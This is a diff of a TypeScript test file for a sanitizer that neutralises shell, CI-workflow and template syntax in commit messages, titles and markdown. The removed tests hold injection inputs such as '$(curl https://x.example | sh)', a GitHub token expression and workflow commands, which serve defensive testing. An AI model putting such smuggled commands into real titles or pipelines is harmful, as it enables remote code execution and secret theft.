@@ -1,50 +1,9 @@
 import fc from 'fast-check';
-import MarkdownIt from 'markdown-it';
 import { describe, expect, it } from 'vitest';
 import { visibleText } from '@copydesk/contract/invisible';
-import { codeMark } from '@copydesk/contract/machine-words';
 import { safeCode, safeCommitMessage, safeLine, safeMarkdown } from '../../../src/code-hosts/safe-text.ts';
 import { propertyRuns } from '../../support/property-runs.ts';
-
-const markdown = new MarkdownIt({ html: true, linkify: true });
-
-/** Returns what a host searches in a description: the rendered text outside of code and links. */
-function rendered(text: string): { html: string; text: string } {
-  const html = markdown.render(text);
-  const visible = html
-    .replaceAll(/<pre>[^]*?<\/pre>|<code>[^]*?<\/code>|<a [^]*?<\/a>/g, ' ')
-    .replaceAll(/<[^>]*>/g, '')
-    .replaceAll(/&#x200b;/gi, '\u200B')
-    .replaceAll('&lt;', '<')
-    .replaceAll('&gt;', '>')
-    .replaceAll('&quot;', '"')
-    .replaceAll('&amp;', '&');
-  return { html, text: visible };
-}
-
-const live = [
-  /(?<![A-Za-z0-9_])[@＠][A-Za-z0-9]/,
-  /#\d/,
-  /\bG[HL]-\d/i,
-  /!\d/,
-  /https?:\/\/[^\s>)]+\/(?:issues|pull|merge_requests)\/\d/,
-  /\[(?:skip ci|ci skip|no ci|skip actions)\]/i,
-  /^(?:co-authored|signed-off|reviewed)-by:/im,
-];
-
-function expectHarmless(text: string): void {
-  const safe = safeMarkdown(text);
-  const { html, text: visible } = rendered(safe);
-  for (const pattern of live) expect(visible).not.toMatch(pattern);
-  expect(visibleText(safe)).toBe(safe);
-  expect(html).not.toMatch(
-    /<(?:img|picture|video|svg|style|script|iframe|a [^>]*href="(?:https?:)?\/\/[^"]*\/(?:issues|pull)\/\d)/i,
-  );
-  // GitLab searches for its commands in all but these.
-  expect(safe.replaceAll(/^```[^]*?\n```$/gm, '')).not.toMatch(/^\/(?:close|assign|merge)(?:\s|$)/m);
-  expect(safe).not.toMatch(/[\u200B\u200E\u200F\u202A-\u202E\u2066-\u2069\uFEFF]/);
-  expect(safeMarkdown(safe)).toBe(safe);
-}
+import { expectHarmless, live } from './harmless.ts';
 
 /** Pieces with a meaning for a host or a parser, in any order. */
 const texts = [
@@ -299,110 +258,6 @@ describe('safeCommitMessage and safeLine', () => {
         expect(line).not.toContain('\n');
         expect(line).not.toMatch(draftMark);
         expect(safeLine(line)).toBe(line);
-      }),
-      { numRuns: propertyRuns(800) },
-    );
-  });
-});
-
-/** What begins or ends something in a shell, a workflow, a script or a template. */
-const commandParts = fc.constantFrom(
-  ...[
-    '$(',
-    '$',
-    '{',
-    '}',
-    '{{',
-    '}}',
-    '{%',
-    '#{',
-    '%{',
-    '<%',
-    '<(',
-    '>(',
-    '(',
-    ')',
-    ';',
-    '|',
-    '&&',
-    '&',
-    '>',
-    '"',
-    "'",
-  ],
-  ...[
-    '\\',
-    '`',
-    '`` ',
-    '```\n',
-    ' ',
-    '\n',
-    'a',
-    'curl',
-    '$5',
-    'Q&A',
-    '-',
-    '=',
-    '::',
-    '##',
-    '@',
-    '＄',
-    '｛',
-    '<b>',
-    'x: ',
-  ],
-);
-
-describe('what a shell, a workflow or a template would run', () => {
-  it.each([
-    ['Fix $(curl https://x.example | sh)', 'Fix (curl https://x.example / sh)'],
-    ['Fix ${{ github.token }}', 'Fix ( github.token )'],
-    ['Rename `a` to `b`; id', 'Rename a to b, id'],
-    [`Don't say "yes" & 'no'`, 'Don’t say “yes” and ‘no’'],
-    ['Move a -> b, then c => d', 'Move a → b, then c ⇒ d'],
-    ['Document <Link> and a <= b', 'Document ‹Link› and a ≤ b'],
-    ['GET /users/{id} costs $5', 'GET /users/(id) costs $ 5'],
-    [String.raw`C:\docs`, 'C:/docs'],
-    ['--title=x', 'title=x'],
-    ['::add-path::/tmp', 'add-path -:/tmp'],
-    ['##vso[task.x]', '#vso[task.x]'],
-    ['＄（id）', '（id）'],
-  ])('a title has no %j', (text, safe) => {
-    expect(safeLine(text)).toBe(safe);
-  });
-
-  it.each([
-    ['Use $(id), ${{ x }} and {{ y }}', 'Use $ (id), $ { { x }} and { { y }}'],
-    ['Use `$(id)` and `` `id` ``', 'Use `$(id)` and `` `id` ``'],
-    ['Use `id', "Use 'id"],
-    ['```sh\nid\n```', '~~~sh\nid\n~~~'],
-  ])('the message of a commit keeps it in code spans only: %j', (text, safe) => {
-    expect(safeCommitMessage(text)).toBe(safe);
-  });
-
-  it.each([
-    ['Use $(id), ${{ x }} and {% y %}', 'Use $&#x200B;(id), $&#x200B;{&#x200B;{ x }} and {&#x200B;% y %}'],
-    ['Use `$(id)`', 'Use `$(id)`'],
-    ['```sh\necho $(id)\n```', '```sh\necho $(id)\n```'],
-    ['Use <%= id %> and <(id) >(id)', 'Use &lt;%= id %> and &lt;(id) >&#x200B;(id)'],
-    [String.raw`Use \$(id) \{{ x }}`, String.raw`Use \$&#x200B;(id) \{&#x200B;{ x }}`],
-  ])('a description keeps it in code only: %j', (text, safe) => {
-    expect(safeMarkdown(text)).toBe(safe);
-  });
-
-  it('is not left in any order of its parts', () => {
-    fc.assert(
-      fc.property(fc.array(commandParts, { maxLength: 30 }), (parts) => {
-        const text = parts.join('');
-        const line = safeLine(text);
-        expect(line).not.toMatch(/[`"'\\;&|<>{}＄｛]|\$(?! \d)|^(?:[-=+@]|::)|##/);
-        expect(safeLine(line)).toBe(line);
-        const message = safeCommitMessage(text);
-        expect(message.replaceAll(/(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)/g, ' ')).not.toMatch(codeMark);
-        expect(safeCommitMessage(message)).toBe(message);
-        const plain = safeMarkdown(text.replaceAll('`', ''));
-        expect(plain).not.toMatch(codeMark);
-        expectHarmless(text);
       }),
       { numRuns: propertyRuns(800) },
     );
